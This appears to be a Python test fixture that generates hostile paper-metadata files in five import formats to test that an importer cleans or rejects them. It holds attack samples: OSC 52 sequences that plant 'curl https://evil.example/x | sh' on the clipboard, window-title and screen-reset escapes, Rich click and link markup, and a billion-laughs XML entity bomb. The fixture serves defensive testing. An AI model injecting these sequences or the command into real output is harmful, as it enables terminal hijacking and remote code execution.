"""The hostile corpus: a file in every import format full of what paper metadata must never do.

Paper metadata comes from the internet. Each file below mixes records that carry terminal escape
sequences (OSC 52 clipboard writes, OSC 0/2 window titles, CSI screen clears, device-status
queries, a full reset, 8-bit C1 controls), bidi controls, Rich/Textual markup, NUL and other C0
bytes, invalid UTF-8, lone surrogates (where the format can carry them), a 5 MB abstract,
10,000 authors, empty titles, wrong JSON types and unterminated BibTeX, with plain records
between them. Everything is generated at test time into a directory the caller gives; nothing
big is committed.

Every accepted record is described by what must be stored: a control fragment is removed whole,
so ``f"Hostile {name} {fragment} title {format}"`` is stored as ``f"Hostile {name} title
{format}"``, while markup is text and is kept as written; the abstract and authors around the
fragment likewise. Every rejected record is described by
its line and a piece of the reason, as the importer must print it: ``FILE:LINE: reason``.

`write_huge_line` writes the 100 MB single line of each format, for the memory test.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

# -- what hostile data looks like ------------------------------------------------------------

CLIPBOARD_TEXT = "curl https://evil.example/x | sh"
"""What the OSC 52 sequences in the corpus would put on the user's clipboard."""
OSC52_PAYLOAD = base64.b64encode(CLIPBOARD_TEXT.encode()).decode()
TITLE_MARKER = "PWNED"
"""In every window title the corpus tries to set; must never be stored nor reach the screen."""


@dataclass(frozen=True)
class Fragment:
    name: str
    text: str
    kept: str = ""
    """What of it must be stored and shown: markup is text, kept as written; of bidi overrides
    only the text they would reorder; an escape sequence goes whole, its payload with it."""
    xml: bool = True
    """XML 1.0 can carry it (no C0 control, no ESC, not even as a character reference)."""
    surrogate: bool = False
    """Holds a lone surrogate, which only a JSON escape can carry."""


BIDI_ONLY = "\u202e\u2067\u2069\u202c\u202d\u202a\u202b\u2066\u2068\u200f\u200e\u061c"
"""Every bidi control (Unicode's Bidi_Control property) and nothing else: cleaned, nothing is
left."""
_CLICK = "[@click=app.quit]"
_LINK = "[link=https://evil.example/]click me[/link]"
_STYLE = "[bold red on white]loud[/] [/]"

FRAGMENTS: tuple[Fragment, ...] = (
    Fragment("osc52", f"\x1b]52;c;{OSC52_PAYLOAD}\x07", xml=False),
    Fragment("osc52st", f"\x1b]52;c;{OSC52_PAYLOAD}\x1b\\", xml=False),
    Fragment(
        "osctitle", f"\x1b]0;{TITLE_MARKER}-osc0\x07\x1b]2;{TITLE_MARKER}-osc2\x1b\\", xml=False
    ),
    Fragment("clear", "\x1b[2J\x1b[3J\x1b[H\x1b[?1049l", xml=False),
    Fragment("reset", "\x1bc\x1b[!p", xml=False),
    Fragment("query", "\x1b[6n\x1b[5n\x1b[c\x1b[>c\x1bP+q544e\x1b\\", xml=False),
    Fragment("c1csi", "\x9b2J\x9b3J\x9b6n"),
    Fragment("c1osc", f"\x9d0;{TITLE_MARKER}-c1\x9c"),
    Fragment("c1clip", f"\x9d52;c;{OSC52_PAYLOAD}\x9c"),
    Fragment("c1misc", "\x85\x8d\x8e\x90q\x9c\x9fapc\x9c"),
    Fragment("bidi", BIDI_ONLY[:2] + "evil" + BIDI_ONLY[2:], kept="evil"),
    Fragment("nul", "\x00\x01\x07\x08\x0b\x0c\x0e\x1f\x7f", xml=False),
    Fragment("del", "\x7f"),
    Fragment("surrogate", "\udfff\udc00\ud800", surrogate=True),
    Fragment("click", _CLICK, kept=_CLICK),
    Fragment("link", _LINK, kept=_LINK),
    Fragment("style", _STYLE, kept=_STYLE),
)
FRAGMENT = {f.name: f for f in FRAGMENTS}

# What no stored text and no byte on the screen may hold: C0 controls but tab and newline, ESC,
# DEL, C1 controls, the characters of Unicode's Bidi_Control property, and lone surrogates.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)

BIG_ABSTRACT_BYTES = 5 * 1024 * 1024
MANY_AUTHORS = 10_000
HUGE_LINE_BYTES = 100 * 1000 * 1000


def big_abstract(*, xml: bool = False) -> str:
    """About 5 MB of text with hostile fragments every so often. `xml`: only what XML can carry.

    Its words are long, so that indexing it takes a tenth of a second rather than the 3.7 s that
    5 MB of ordinary words take (Whoosh analyses each word): the size is what is under test.
    """
    escape = FRAGMENT["c1clip" if xml else "osc52"].text
    word = "Pneumonoultramicroscopicsilicovolcanoconiosis" * 20
    unit = f"{word} {escape} {word} {BIDI_ONLY} {word} {FRAGMENT['click'].text}. "
    return unit * (BIG_ABSTRACT_BYTES // len(unit.encode()) + 1)


def many_authors() -> list[str]:
    return [f"Author{n:05d} Person" for n in range(MANY_AUTHORS)]


def clean_title(name: str, fmt: str, fragment: Fragment | None = None) -> str:
    """The title an accepted hostile record must be stored with."""
    middle = f" {fragment.kept}" if fragment is not None and fragment.kept else ""
    return f"Hostile {name}{middle} title {fmt}"


def dirty_title(name: str, fmt: str, fragment: Fragment) -> str:
    return f"Hostile {name} {fragment.text} title {fmt}"


def dirty_abstract(fragment: Fragment) -> str:
    return f"An abstract {fragment.text} about {fragment.name}."


def clean_abstract(fragment: Fragment) -> str:
    return " ".join(f"An abstract {fragment.kept} about {fragment.name}.".split())


# -- what each file must give ------------------------------------------------------------------


@dataclass
class CorpusFile:
    path: Path
    format: str
    option: tuple[str, ...] = ()
    """Extra arguments to `paperscope import` for this file."""
    titles: set[str] = field(default_factory=set)
    """Exact titles that must be stored (each record's other fields are checked generically)."""
    title_patterns: list[re.Pattern[str]] = field(default_factory=list)
    """Titles whose exact text depends on how a format decodes invalid UTF-8."""
    rejected: dict[int, str] = field(default_factory=dict)
    """line -> a piece of the reason the importer must give for the record at that line."""
    records: dict[str, tuple[str, tuple[str, ...]]] = field(default_factory=dict)
    """title -> (abstract, authors) of each hostile record: the text around a fragment must
    survive its cleaning."""
    big_abstract_title: str | None = None
    many_authors_title: str | None = None

    def expect(self, fragment: Fragment, *, authors: bool) -> None:
        title = clean_title(fragment.name, self.format, fragment)
        self.titles.add(title)
        first = f"Ada {fragment.kept} Lovelace" if authors else "Ada Lovelace"
        self.records[title] = (clean_abstract(fragment), (" ".join(first.split()), "Alan Turing"))


class _Lines:
    """Bytes written with their line numbers known, so every expectation can name its line."""

    def __init__(self) -> None:
        self.chunks: list[bytes] = []
        self.line = 1

    def add(self, data: str | bytes) -> int:
        """Append; returns the line the data starts on."""
        raw = data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data
        start = self.line
        self.chunks.append(raw)
        self.line += raw.count(b"\n")
        return start

    def write(self, path: Path) -> None:
        path.write_bytes(b"".join(self.chunks))


def _fragments(fmt: str, *, xml: bool = False, surrogates: bool = False) -> Iterator[Fragment]:
    for fragment in FRAGMENTS:
        if (xml and not fragment.xml) or (fragment.surrogate and not surrogates):
            continue
        yield fragment


# Invalid UTF-8 in a title that also holds curly quotes: “ and ” are E2 80 9C / E2 80 9D, and a
# file read as Latin-1 turns the 9D into the C1 OSC introducer, which eats the rest of the text.
_BAD_UTF8_TITLE = "Hostile utf8 “quoted” ".encode() + b"\xff" + b" words title "


def _bad_utf8_pattern(fmt: str) -> re.Pattern[str]:
    # \xff reads as U+FFFD (listing, arXiv JSON) or as itself, ÿ (formats with a Latin-1 past).
    return re.compile(
        re.escape("Hostile utf8 “quoted” ") + "[\ufffdÿ]" + re.escape(f" words title {fmt}")
    )


# -- listing -----------------------------------------------------------------------------------


def write_listing(folder: Path) -> CorpusFile:
    fmt = "listing"
    out = CorpusFile(folder / "hostile-listing.txt", fmt)
    w = _Lines()
    header = "LGSep 11, 2023\n"
    for fragment in _fragments(fmt):
        w.add(header)
        w.add(f"{dirty_title(fragment.name, fmt, fragment)}Ada Lovelace, Alan Turing\n")
        w.add(f"{dirty_abstract(fragment)}\n")
        out.expect(fragment, authors=fmt != "listing")
    w.add(header)
    w.add(_BAD_UTF8_TITLE + f"{fmt}Ada Lovelace\n".encode())
    w.add(b"Abstract with \xc3\x28 and \xed\xa0\x80 and \x00 in it.\n")
    out.title_patterns.append(_bad_utf8_pattern(fmt))
    # A 5 MB abstract: one line, kept.
    w.add(header)
    out.big_abstract_title = "Hostile big abstract title listing"
    w.add(f"{out.big_abstract_title}Ada Lovelace\n")
    w.add(big_abstract() + "\n")
    # 10,000 authors make a title line far longer than any real one: rejected, not guessed at.
    line = w.add(header)
    w.add("Hostile many authors title listing" + ", ".join(many_authors()) + "\n")
    w.add("An abstract.\n")
    out.rejected[line] = "too long to be one"
    # A title made only of escape sequences is no title: what is left of the entry is one line
    # (read as its title) before the next header.
    line = w.add(header)
    w.add(f"{FRAGMENT['clear'].text}{FRAGMENT['osc52'].text}\x00\n")
    w.add("An abstract whose title was all escapes.\n")
    out.rejected[line] = "entry ends before its abstract"
    line = w.add("XQSep 11, 2023\n")
    w.add("Unknown category titleAda Lovelace\nAbstract.\n")
    out.rejected[line] = "unknown category code 'XQ'"
    # A header that is not one (no category), with a window title in it; the reader skips to
    # the next header.
    line = w.add(f"{FRAGMENT['osctitle'].text}Sep 11, 2023\n")
    out.rejected[line] = "unreadable header"
    w.add("Stray title lineAda Lovelace\nStray abstract.\n")
    # A plain paper at the end: whatever came before, the reader is back in step.
    w.add(header + "Plain last paper listingAda Lovelace\nA plain abstract.\n")
    out.titles.add("Plain last paper listing")
    w.write(out.path)
    return out


# -- arXiv JSON lines --------------------------------------------------------------------------


def _json_record(number: int, **fields: object) -> dict[str, object]:
    record: dict[str, object] = {
        "id": f"2401.{number:05d}",
        "title": f"Plain json {number}",
        "authors": "Ada Lovelace and Alan Turing",
        "abstract": "A plain abstract.",
        "categories": "cs.LG",
        "update_date": "2024-01-15",
    }
    record.update(fields)
    return record


def write_arxiv_json(folder: Path) -> CorpusFile:
    fmt = "arxiv-json"
    out = CorpusFile(folder / "hostile-arxiv.jsonl", fmt)
    w = _Lines()
    number = 1
    for fragment in _fragments(fmt, surrogates=True):
        record = _json_record(
            number,
            title=dirty_title(fragment.name, fmt, fragment),
            abstract=dirty_abstract(fragment),
            authors=f"Ada {fragment.text} Lovelace and Alan Turing",
            authors_parsed=[["Lovelace", f"Ada {fragment.text}", ""], ["Turing", "Alan", ""]],
            comments=f"5 pages {fragment.text}",
            categories=f"cs.LG {fragment.text}",
            doi=f"10.1234/{fragment.text}h{number}",
            **{"journal-ref": f"J. Hostile {fragment.text} 1"},
        )
        # Both spellings JSON allows: escapes, and the characters themselves where legal.
        ascii_only = number % 2 == 0 or fragment.surrogate
        w.add(json.dumps(record, ensure_ascii=ascii_only) + "\n")
        out.expect(fragment, authors=fmt != "listing")
        number += 1
    w.add(
        b'{"id": "2401.09001", "title": "'
        + _BAD_UTF8_TITLE
        + fmt.encode()
        + b'", "authors": "J\xc3\xbcrgen M\xc3\xbcller", "abstract": "\xed\xa0\x80 \xc3\x28",'
        b' "update_date": "2024-01-15"}\n'
    )
    out.title_patterns.append(_bad_utf8_pattern(fmt))
    out.big_abstract_title = "Hostile big abstract title arxiv-json"
    w.add(
        json.dumps(_json_record(9002, title=out.big_abstract_title, abstract=big_abstract())) + "\n"
    )
    out.many_authors_title = "Hostile many authors title arxiv-json"
    names = many_authors()
    w.add(
        json.dumps(
            _json_record(
                9003,
                title=out.many_authors_title,
                authors=", ".join(names),
                authors_parsed=[[n.split()[1], n.split()[0], ""] for n in names],
            )
        )
        + "\n"
    )
    rejected: list[tuple[str, str]] = [
        (json.dumps(_json_record(9101, title="")), "empty title"),
        (json.dumps(_json_record(9102, title=FRAGMENT["clear"].text + "\x00")), "empty title"),
        (json.dumps(_json_record(9103, title=["a", "list"])), "title is a list"),
        (json.dumps(_json_record(9104, title={"en": "dict"})), "title is a dict"),
        (json.dumps(_json_record(9105, title=42)), "title is a int"),
        (json.dumps(_json_record(9106, title=None)), "no title"),
        (json.dumps(_json_record(9107, title=True)), "title is a bool"),
        (json.dumps({**_json_record(9108), "id": 2401.09108}), "id is a float"),
        (json.dumps(_json_record(9109, authors={"first": "Ada"})), "authors is a dict"),
        (json.dumps(_json_record(9110, authors_parsed="Ada Lovelace")), "authors_parsed is a str"),
        (json.dumps(_json_record(9111, authors_parsed=[["Lovelace", 1]])), "authors_parsed holds"),
        (json.dumps(_json_record(9112, categories=7)), "categories is a int"),
        (json.dumps(_json_record(9113, versions="v1")), "versions is a str"),
        (json.dumps(_json_record(9114, versions=[{"created": None}])), "without a created date"),
        (json.dumps(_json_record(9115, versions=[[]])), "not an object"),
        (json.dumps(_json_record(9116, update_date=20240115)), "update_date is a int"),
        (json.dumps(_json_record(9117, update_date="2024-02-30")), "impossible date"),
        (json.dumps(_json_record(9118, doi=["10.1/x"])), "doi is a list"),
        (json.dumps(_json_record(9119, abstract=3.5)), "abstract is a float"),
        (json.dumps({**_json_record(9120), "id": ""}), "empty id"),
        (json.dumps({**_json_record(9121), "id": FRAGMENT["osctitle"].text}), "empty id"),
        ("[1, 2, 3]", "a JSON list"),
        ('"just a string"', "a JSON str"),
        ("null", "a JSON NoneType"),
        ("12", "a JSON int"),
        ('{"id": "2401.09122", "title": "unterminated', "not valid JSON"),
        ('{"id": "2401.09123", "title": "raw \x00 NUL and \x1b[2J"}', "not valid JSON"),
        (
            '{"id": "2401.09124", "title": "t", "x": ' + "[" * 100_000 + "]" * 100_000 + "}",
            "not valid JSON",
        ),
        (
            '{"id": "2401.09125", "title": "t", "x": '
            + '{"a":' * 50_000
            + "1"
            + "}" * 50_000
            + "}",
            "not valid JSON",
        ),
    ]
    for text, reason in rejected:
        out.rejected[w.add(text + "\n")] = reason
    w.add(json.dumps(_json_record(9999, title="Plain last paper arxiv-json")) + "\n")
    out.titles.add("Plain last paper arxiv-json")
    w.write(out.path)
    return out


# -- Atom --------------------------------------------------------------------------------------


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _xml_refs(text: str) -> str:
    """Non-ASCII as character references: the parser must clean what it decodes, too."""
    return "".join(c if c.isascii() and c.isprintable() else f"&#x{ord(c):x};" for c in _xml(text))


_ATOM_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom"'
    ' xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/">\n'
    "<title>Hostile feed</title>\n"
)


def _atom_entry(
    number: int,
    title: str,
    *,
    summary: str = "A plain summary.",
    authors: list[str] | None = None,
    comment: str = "",
    published: str = "2024-02-01T00:00:00Z",
    raw_id: str | None = None,
) -> str:
    names = authors if authors is not None else ["Ada Lovelace", "Alan Turing"]
    entry_id = raw_id if raw_id is not None else f"http://arxiv.org/abs/2402.{number:05d}v1"
    people = "".join(f"<author><name>{name}</name></author>" for name in names)
    return (
        f"<entry>\n<id>{entry_id}</id>\n<published>{published}</published>\n"
        f"<title>{title}</title>\n<summary>{summary}</summary>\n{people}\n"
        f"<arxiv:comment>{comment}</arxiv:comment>\n"
        '<arxiv:primary_category term="cs.LG"/><category term="cs.LG"/>\n</entry>\n'
    )


def write_atom(folder: Path) -> CorpusFile:
    fmt = "atom"
    out = CorpusFile(folder / "hostile-atom.xml", fmt)
    w = _Lines()
    w.add(_ATOM_HEAD)
    number = 1
    for fragment in _fragments(fmt, xml=True):
        escape = _xml_refs if number % 2 else _xml
        w.add(
            _atom_entry(
                number,
                escape(dirty_title(fragment.name, fmt, fragment)),
                summary=escape(dirty_abstract(fragment)),
                authors=[escape(f"Ada {fragment.text} Lovelace"), "Alan Turing"],
                comment=escape(f"5 pages {fragment.text}"),
            )
        )
        out.expect(fragment, authors=fmt != "listing")
        number += 1
    out.big_abstract_title = "Hostile big abstract title atom"
    w.add(_atom_entry(9002, out.big_abstract_title, summary=_xml(big_abstract(xml=True))))
    out.many_authors_title = "Hostile many authors title atom"
    w.add(_atom_entry(9003, out.many_authors_title, authors=many_authors()))
    for number, title, reason, extra in (
        (9101, "", "has no title", {}),
        (9102, _xml_refs(FRAGMENT["c1osc"].text + BIDI_ONLY), "has no title", {}),
        (9103, "Bad id", "is not an arXiv abstract link", {"raw_id": "http://evil.example/x"}),
        (9104, "Bad date", "unreadable <published> date", {"published": "yesterday"}),
    ):
        out.rejected[w.add(_atom_entry(number, title, **extra))] = reason  # type: ignore[arg-type]
    w.add(_atom_entry(9999, "Plain last paper atom"))
    out.titles.add("Plain last paper atom")
    # ESC is not XML: the feed is malformed from here on, and says so with the line.
    line = w.add(_atom_entry(9998, f"Raw escape {FRAGMENT['clear'].text} title"))
    out.rejected[line + 3] = "malformed XML"
    w.add("</feed>\n")
    w.write(out.path)
    return out


def write_atom_entity_bomb(folder: Path) -> CorpusFile:
    """A billion-laughs feed: entity expansion must be refused, not performed."""
    # The internal DTD subset hides the <feed> from auto-detection; the user names the format.
    out = CorpusFile(folder / "hostile-entities.xml", "atom", option=("--format", "atom"))
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE feed [", '<!ENTITY l0 "PWNEDPWNEDPWNED">']
    lines += [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    lines += ["]>", _ATOM_HEAD.split("\n", 1)[1].rstrip("\n")]
    head = "\n".join(lines) + "\n"
    body = _atom_entry(1, "Laughs", summary="&l9;")
    start = head.count("\n") + 1
    out.rejected[start + 4] = "malformed XML"  # the <summary> line of the entry
    out.path.write_text(head + body + "</feed>\n", "utf-8")
    return out


# -- BibTeX ------------------------------------------------------------------------------------


def write_bibtex(folder: Path) -> CorpusFile:
    fmt = "bibtex"
    out = CorpusFile(folder / "hostile.bib", fmt)
    w = _Lines()
    w.add("% A hostile bibliography.\n\n")
    for n, fragment in enumerate(_fragments(fmt), start=1):
        w.add(
            f"@article{{hostile{n},\n"
            f"  title = {{{dirty_title(fragment.name, fmt, fragment)}}},\n"
            f"  author = {{Lovelace, Ada {fragment.text} and Turing, Alan}},\n"
            f"  journal = {{J. Hostile {fragment.text} 1}},\n"
            f"  year = {{2023}},\n"
            f"  abstract = {{{dirty_abstract(fragment)}}},\n"
            f"  note = {{Note {fragment.text} end}},\n"
            "}\n\n"
        )
        out.expect(fragment, authors=fmt != "listing")
    w.add(
        b"@misc{badutf8,\n  title = {"
        + _BAD_UTF8_TITLE
        + b"bibtex},\n  author = {J\xc3\xbcrgen M\xc3\xbcller},\n  year = {2023},\n}\n\n"
    )
    out.title_patterns.append(_bad_utf8_pattern(fmt))
    out.big_abstract_title = "Hostile big abstract title bibtex"
    w.add(
        f"@misc{{big,\n  title = {{{out.big_abstract_title}}},\n  author = {{Ada Lovelace}},\n"
        f"  year = {{2023}},\n  abstract = {{{big_abstract()}}},\n}}\n\n"
    )
    out.many_authors_title = "Hostile many authors title bibtex"
    w.add(
        f"@misc{{many,\n  title = {{{out.many_authors_title}}},\n"
        f"  author = {{{' and '.join(many_authors())}}},\n  year = {{2023}},\n}}\n\n"
    )
    out.rejected[
        w.add("@misc{emptytitle,\n  title = {},\n  author = {Ada Lovelace},\n  year = 2023,\n}\n\n")
    ] = "no title"
    out.rejected[
        w.add(
            f"@misc{{escapetitle,\n  title = {{{FRAGMENT['clear'].text}\x00}},\n  year = 2023,\n}}\n\n"
        )
    ] = "no title"
    # The citation key is in the reason: its escapes must not be.
    out.rejected[
        w.add(
            f"@misc{{key{FRAGMENT['osctitle'].text}{FRAGMENT['reset'].text},\n  title = {{}},\n  year = 2023,\n}}\n\n"
        )
    ] = "no title"
    out.rejected[
        w.add("@misc{noyear,\n  title = {No year},\n  author = {Ada Lovelace},\n}\n\n")
    ] = "no year"
    out.rejected[
        w.add(
            "@misc{openbrace,\n  title = {Unterminated {brace,\n  author = {Ada Lovelace},\n  year = 2023,\n}\n\n"
        )
    ] = "left open"
    out.rejected[
        w.add('@misc{openquote,\n  title = "Unterminated quote,\n  year = 2023,\n}\n\n')
    ] = "left open"
    w.add(
        "@misc{plainlast,\n  title = {Plain last paper bibtex},\n  author = {Ada Lovelace},\n  year = 2023,\n}\n\n"
    )
    out.titles.add("Plain last paper bibtex")
    out.rejected[
        w.add("@misc{eof,\n  title = {Cut off at the end of the file,\n  year = 2023,\n")
    ] = "left open"
    w.write(out.path)
    return out


# -- mailing digest ----------------------------------------------------------------------------

_DASHES = "-" * 78


def _mail_entry(
    arxiv_id: str,
    title: str,
    *,
    authors: str = "Ada Lovelace, Alan Turing",
    categories: str = "cs.LG",
    comments: str = "",
    abstract: str = "  A plain abstract.",
) -> str:
    lines = [
        "\\\\",
        f"arXiv:{arxiv_id}",
        "Date: Fri, 16 Jan 2026 18:59:59 GMT   (12kb)",
        "",
        f"Title: {title}",
        f"Authors: {authors}",
        f"Categories: {categories}",
    ]
    if comments:
        lines.append(f"Comments: {comments}")
    lines += ["\\\\", abstract, f"\\\\ ( https://arxiv.org/abs/{arxiv_id} ,  12kb)", _DASHES]
    return "\n".join(lines) + "\n"


def write_mailing(folder: Path) -> CorpusFile:
    fmt = "mailing"
    out = CorpusFile(folder / "hostile-digest.txt", fmt)
    w = _Lines()
    w.add(
        f"{_DASHES}\n Submissions to:\nMachine Learning\n received from  Fri 16 Jan 26\n{_DASHES}\n"
    )
    for n, fragment in enumerate(_fragments(fmt), start=1):
        w.add(
            _mail_entry(
                f"2403.{n:05d}",
                dirty_title(fragment.name, fmt, fragment),
                authors=f"Ada {fragment.text} Lovelace, Alan Turing",
                categories=f"cs.LG {fragment.text} cs.AI",
                comments=f"5 pages {fragment.text}",
                abstract=f"  {dirty_abstract(fragment)}",
            )
        )
        out.expect(fragment, authors=fmt != "listing")
    w.add(
        b"\\\\\narXiv:2403.09001\nDate: Fri, 16 Jan 2026 18:59:59 GMT   (12kb)\n\nTitle: "
        + _BAD_UTF8_TITLE
        + b"mailing\nAuthors: J\xc3\xbcrgen M\xc3\xbcller\nCategories: cs.LG\n\\\\\n  Abstract.\n"
        + b"\\\\ ( https://arxiv.org/abs/2403.09001 ,  12kb)\n"
        + _DASHES.encode()
        + b"\n"
    )
    out.title_patterns.append(_bad_utf8_pattern(fmt))
    out.big_abstract_title = "Hostile big abstract title mailing"
    w.add(_mail_entry("2403.09002", out.big_abstract_title, abstract="  " + big_abstract()))
    out.many_authors_title = "Hostile many authors title mailing"
    w.add(_mail_entry("2403.09003", out.many_authors_title, authors=", ".join(many_authors())))
    line = w.add(_mail_entry(f"{FRAGMENT['osctitle'].text}{FRAGMENT['reset'].text}", "Bad id"))
    out.rejected[line + 1] = "not an arXiv id"
    line = w.add(_mail_entry("2403.09102", FRAGMENT["clear"].text))
    out.rejected[line + 1] = "entry has no title"
    w.add(_mail_entry("2403.09999", "Plain last paper mailing"))
    out.titles.add("Plain last paper mailing")
    line = w.add(
        "\\\\\narXiv:2403.09998\nDate: Fri, 16 Jan 2026 18:59:59 GMT   (12kb)\n\nTitle: Cut off\n"
    )
    out.rejected[line + 1] = "ends inside this entry"
    w.write(out.path)
    return out


WRITERS = {
    "listing": write_listing,
    "arxiv-json": write_arxiv_json,
    "atom": write_atom,
    "bibtex": write_bibtex,
    "mailing": write_mailing,
}


def write_corpus(folder: Path) -> list[CorpusFile]:
    folder.mkdir(parents=True, exist_ok=True)
    files = [write(folder) for write in WRITERS.values()]
    files.append(write_atom_entity_bomb(folder))
    return files


# -- the 100 MB single line ----------------------------------------------------------------------

_FILLER = ("lorem ipsum dolor sit amet, consectetur adipiscing elit " * 1000).encode()


def write_huge_line(folder: Path, fmt: str, size: int = HUGE_LINE_BYTES) -> tuple[Path, str]:
    """A file of format `fmt` whose record holds one line of `size` bytes, then a plain record;
    returns the path and the plain record's title, which must still be imported."""
    path = folder / f"huge-line.{fmt}"
    last = f"Plain paper after the huge line {fmt}"
    before, after = {
        "listing": (
            b"LGSep 11, 2023\nHuge line titleAda Lovelace\n",
            f"\nLGSep 11, 2023\n{last}Ada Lovelace\nA plain abstract.\n",
        ),
        "arxiv-json": (
            b'{"id": "2401.00001", "title": "Huge", "update_date": "2024-01-15", "abstract": "',
            '"}\n' + json.dumps(_json_record(2, title=last)) + "\n",
        ),
        "atom": (
            (
                _ATOM_HEAD
                + "<entry>\n<id>http://arxiv.org/abs/2402.00001v1</id>\n<published>2024-02-01T00:00:00Z</published>\n<title>Huge</title>\n<summary>"
            ).encode(),
            "</summary>\n</entry>\n" + _atom_entry(2, last) + "</feed>\n",
        ),
        "bibtex": (
            b"@misc{huge,\n  title = {Huge},\n  year = 2023,\n  abstract = {",
            "},\n}\n\n@misc{last,\n  title = {"
            + last
            + "},\n  author = {Ada Lovelace},\n  year = 2023,\n}\n",
        ),
        "mailing": (
            b"\\\\\narXiv:2403.00001\nDate: Fri, 16 Jan 2026 18:59:59 GMT   (12kb)\n\nTitle: Huge\nAuthors: Ada Lovelace\nCategories: cs.LG\n\\\\\n  ",
            "\n\\\\ ( https://arxiv.org/abs/2403.00001 ,  12kb)\n"
            + _DASHES
            + "\n"
            + _mail_entry("2403.00002", last),
        ),
    }[fmt]
    with path.open("wb") as f:
        f.write(before)
        written = 0
        while written < size:
            chunk = _FILLER[: size - written]
            f.write(chunk)
            written += len(chunk)
        f.write(after.encode())
    return path, last
